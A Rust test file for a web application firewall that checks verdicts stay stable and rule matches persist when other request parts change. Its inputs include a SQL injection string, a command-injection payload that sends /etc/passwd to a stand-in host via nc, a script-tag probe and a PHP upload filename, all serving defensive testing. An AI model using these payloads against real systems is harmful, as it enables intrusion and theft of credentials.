//! What holds for every request: the same verdict every time, and a match that stays a match whatever is added elsewhere.

use crate::attempt::{ATTACK, FORM, JSON, MULTIPART, XML, field, get, json_string, percent, post, xml_text};
use crate::chance::Chance;
use crate::oracle::exchange::Exchange;
use crate::row::Row;
use crate::rulesets::{BUILTIN, CRS, OWN, SITE, conformance};
use fusewall::engine::FixedEnv;
use fusewall::store::builtin_files;
use fusewall::{Verdict, Waf};
use std::collections::BTreeSet;
use std::sync::LazyLock;

pub static ROW: LazyLock<Row> = LazyLock::new(|| {
    let mut row = Row::new(
        "all",
        "the same verdict on 1,000 repeats; arguments, headers, cookies and fields elsewhere never undo a match",
    );
    repeats(&mut row);
    for (name, waf) in watching() {
        additions(name, &waf, |holds, context| row.hold(holds, || context));
    }
    row
});

/// Requests with the attack in one place, and how more is added to the body.
fn requests() -> Vec<(&'static str, Exchange)> {
    vec![
        ("query", get(&format!("/?q={}", percent(ATTACK)))),
        ("path", get(&format!("/{}?x=1", percent(ATTACK)))),
        ("cookie", get("/").header("Cookie", &format!("a={ATTACK}"))),
        ("form", post(FORM, format!("q={}", percent(ATTACK)))),
        ("JSON", post(JSON, format!("{{\"q\":\"{}\"}}", json_string(ATTACK)))),
        ("XML", post(XML, format!("<a>{}</a>", xml_text(ATTACK)))),
        ("attribute", post(XML, format!("<a b='{}'></a>", xml_text(ATTACK)))),
        ("multipart", post(MULTIPART, field("q", ATTACK) + "--B--\r\n")),
        (
            "file name",
            post(
                MULTIPART,
                "--B\r\nContent-Disposition: form-data; name=\"f\"; filename=\"attack.php\"\r\n\r\nx\r\n--B--\r\n",
            ),
        ),
        ("broken JSON", post(JSON, format!("{{\"q\":\"{}\"", json_string(ATTACK)))),
        ("SQL", get(&format!("/?id={}", percent("1' union select password from users -- ")))),
        ("command", post(FORM, format!("c={}", percent("; cat /etc/passwd | nc 192.0.2.1 80")))),
    ]
}

/// The same request a thousand times, on scratches that have seen other requests.
fn repeats(row: &mut Row) {
    let times = if cfg!(debug_assertions) { 50 } else { 1000 };
    for (what, exchange) in requests() {
        for target in [&*OWN, &*BUILTIN].into_iter().take(if cfg!(debug_assertions) { 1 } else { 2 }) {
            let first = exchange.evaluate(&target.waf).verdict();
            let same = (0..times).all(|at| {
                if at % 100 == 50 {
                    get("/?x=<script>").evaluate(&target.waf);
                }
                exchange.evaluate(&target.waf).verdict() == first
            });
            row.hold(same, || format!("{what} ({}): another verdict", target.name));
        }
    }
}

/// Rulesets that only watch: an early refusal would hide what later rules find.
fn watching() -> Vec<(&'static str, Waf)> {
    let build = |builder: fusewall::WafBuilder| {
        builder.env(FixedEnv::default()).build().unwrap_or_else(|report| panic!("{report}"))
    };
    let own = build(Waf::builder().rules_text("site.conf", format!("{SITE}\nSecRuleEngine DetectionOnly\n")));
    let (entry, files) = builtin_files();
    let text = format!("Include {entry}\nSecRuleEngine DetectionOnly\n");
    vec![("hand-written", own), ("built-in", build(Waf::builder().files(files).rules_text("watch.conf", text)))]
}

/// Adds harmless and odd things to other places.
fn additions(name: &str, waf: &Waf, mut holds: impl FnMut(bool, String)) {
    let mut chance = Chance::new(9);
    let rounds = if cfg!(debug_assertions) { 4 } else { 40 };
    for (what, exchange) in requests() {
        let before: BTreeSet<u64> = logged(&exchange, waf).0;
        if before.is_empty() && matches!((what, name), ("SQL" | "command", "hand-written")) {
            continue;
        }
        holds(!before.is_empty(), format!("{what}: nothing found by the {name} rules"));
        for _ in 0..rounds {
            let mut more = exchange.clone();
            let mut told = Vec::new();
            for _ in 0..=chance.below(4) {
                told.push(add(&mut more, &mut chance));
            }
            let (after, verdict) = logged(&more, waf);
            let limited = verdict.uninspected.iter().any(|what| what.contains("limit") || what.contains("budget"));
            let missing: Vec<_> = before.difference(&after).collect();
            holds(
                missing.is_empty() || limited,
                format!("{what}, {name} rules: {missing:?} no longer match after {told:?}\n{}", more.show()),
            );
        }
    }
}

fn logged(exchange: &Exchange, waf: &Waf) -> (BTreeSet<u64>, Verdict) {
    let transaction = exchange.evaluate(waf);
    let verdict = transaction.verdict().expect("the engine does not fail");
    (transaction.records().iter().map(|record| record.rule.0).collect(), verdict)
}

/// Adds one thing where the attack is not, in front of it or behind it.
fn add(exchange: &mut Exchange, chance: &mut Chance) -> String {
    const VALUES: &[&str] = &[
        "",
        "x",
        "%",
        "%00",
        "'",
        "a b",
        "\u{e9}",
        "0",
        "%ff%fe",
        "<",
        "{",
        "--",
        "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa",
    ];
    let value = *chance.pick(VALUES);
    let number = chance.below(1000);
    let first = chance.below(2) == 0;
    match chance.below(4) {
        0 => {
            let value = value.replace(' ', "+");
            let target = String::from_utf8(exchange.target.clone()).expect("text");
            let (path, query) = target.split_once('?').unwrap_or((&target, ""));
            let pair = format!("z{number}={value}");
            let query = if first { format!("{pair}&{query}") } else { format!("{query}&{pair}") };
            exchange.target = format!("{path}?{query}").into_bytes();
            format!("argument {pair} first: {first}")
        }
        1 => {
            let header = (format!("X-Z{number}").into_bytes(), value.as_bytes().to_vec());
            let at = if first { 0 } else { exchange.headers.len() };
            exchange.headers.insert(at, header);
            format!("header {value} first: {first}")
        }
        2 => {
            let header = (b"Cookie".to_vec(), format!("z{number}={value}").into_bytes());
            let at = if first { 0 } else { exchange.headers.len() };
            exchange.headers.insert(at, header);
            format!("cookie {value} first: {first}")
        }
        _ => {
            let body = String::from_utf8(exchange.body.clone()).expect("text");
            let body = if body.starts_with("--B") {
                let part = field(&format!("z{number}"), value);
                if first { format!("{part}{body}") } else { body.replace("--B--", &format!("{part}--B--")) }
            } else if let Some(rest) = body.strip_prefix('{') {
                let member = format!("\"z{number}\":\"{}\"", json_string(value));
                if first || !body.ends_with('}') {
                    format!("{{{member},{rest}")
                } else {
                    body.replace('}', &format!(",{member}}}"))
                }
            } else if body.starts_with("<a") {
                body.replace("</a>", &format!("<z>{}</z></a>", xml_text(value)))
            } else if body.is_empty() {
                body
            } else if first {
                format!("z{number}={value}&{body}")
            } else {
                format!("{body}&z{number}={value}")
            };
            exchange.body = body.into_bytes();
            format!("field {value} first: {first}")
        }
    }
}

#[test]
fn verdicts_are_stable_and_matches_stay() {
    ROW.assert();
}

#[test]
fn matches_of_crs_stay() {
    if CRS.is_none() {
        return;
    }
    let folder = conformance().join("setup");
    let text = format!("Include {}/crs-pl1.conf\nSecRuleEngine DetectionOnly\n", folder.display());
    let waf = Waf::builder().env(FixedEnv::default()).rules_text("watch.conf", text).build();
    let waf = waf.unwrap_or_else(|report| panic!("{report}"));
    let mut failures = Vec::new();
    additions("CRS", &waf, |holds, context| {
        if !holds {
            failures.push(context);
        }
    });
    assert!(failures.is_empty(), "{}:\n{}", failures.len(), failures[..failures.len().min(5)].join("\n"));
}
